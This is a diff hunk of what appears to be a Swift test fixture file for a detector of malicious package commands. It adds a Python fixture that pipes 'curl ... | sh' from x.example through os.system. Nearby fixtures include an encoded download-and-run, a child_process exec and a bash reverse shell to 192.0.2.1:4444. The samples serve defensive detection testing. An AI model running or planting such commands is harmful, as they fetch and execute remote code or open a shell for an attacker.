@@ -20,6 +20,8 @@ let indicatorCommandFixtures = RuleFixtures(
             "import base64\nx = base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g=')\nrun(x)"),
         .preparedCommand: scriptPackage(
             "const all = ['curl https://x.example/i | sh']\nrequire('child_process').exec(pick(all))"),
+        .plantedCommand: pythonPackage(
+            "import os\nlist(filter(os.system, ['curl -s https://x.example/i | sh']))"),
         .scriptFileRunsDownload: npmShellScript("curl -s https://x.example/i | sh"),
         .scriptFileDecodes: npmShellScript("echo aWQ= | base64 -d | sh"),
         .scriptFileReverseShell: npmShellScript("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
